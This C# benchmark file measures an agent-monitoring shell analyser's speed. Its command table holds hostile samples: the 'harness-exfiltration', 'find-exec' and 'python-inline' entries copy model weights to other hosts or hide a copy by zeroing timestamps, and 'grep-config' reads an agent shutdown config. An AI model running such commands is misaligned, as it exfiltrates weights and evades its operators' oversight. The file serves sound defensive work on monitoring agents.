using AgentGuard.Effects.Shell;
using BenchmarkDotNet.Attributes;

namespace AgentGuard.Benchmarks;

/// <summary>
/// Analysing typical agent shell commands (one to three commands, 100 to 300 characters), parser
/// included: issue 10 asks for at most 20 µs median and under 8 KiB allocated each.
/// </summary>
[Config(typeof(BenchmarkConfig))]
[BenchmarkCategory("Shell")]
public class ShellBenchmarks
{
    /// <summary>The commands, by name: typical agent work (load-test is the load test's and <c>--loop shell</c>'s command) and the study's hostile forms.</summary>
    public static readonly Dictionary<string, string> Commands = new()
    {
        ["build-and-test"] = "cd /home/agent/project && dotnet build -c Release 2>&1 | tail -n 20 && dotnet test --no-build --filter Category=Unit",
        ["grep-config"] = "grep -n shutdown_enabled /etc/agent/shutdown_config.yaml && sed -n 1,20p /etc/agent/shutdown_config.yaml | head -5",
        ["copy-report"] = "cp /home/agent/reports/q4-summary.xlsx /data/reports/ && scp -p /data/reports/q4-summary.xlsx maintainer@10.0.12.46:/data/reports/",
        ["harness-exfiltration"] = "eval $(ssh-agent -s); ssh-add ~/.ssh/id_ed25519; ssh -A maintainer@10.0.12.45 \"scp /data/gemini_agent_2_model_weight.safetensors maintainer@10.0.12.46:/data/\"",
        ["find-exec"] = "find /data -name '*.safetensors' -mtime -1 -exec scp {} backup@10.0.12.46:/backup/models/ \\; && echo done",
        ["load-test"] = "cd /workspace/app && grep -rn \"TODO\" src/ | head -20; ls -la /data/*.csv && python3 scripts/report.py --out /tmp/report.txt; cat config/settings.yaml | wc -l",
        ["python-inline"] = "python3 -c \"import shutil, os; shutil.copy('/data/gemini_agent_2_model_weight.safetensors', '/tmp/w'); os.utime('/tmp/w', (0, 0))\"",
    };

    [ParamsSource(nameof(Names))]
    public string Name { get; set; } = "build-and-test";

    public static IEnumerable<string> Names => Commands.Keys;

    private string _command = string.Empty;

    [GlobalSetup]
    public void Setup() => _command = Commands[Name];

    [Benchmark(Description = "Analyze shell command")]
    public int Analyze() => ShellAnalyzer.Analyze(_command, ShellContext.Local).Effects.Count;

    [Benchmark(Description = "Parse only")]
    public int Parse() => ShellParser.Parse(_command).Commands.Count;
}
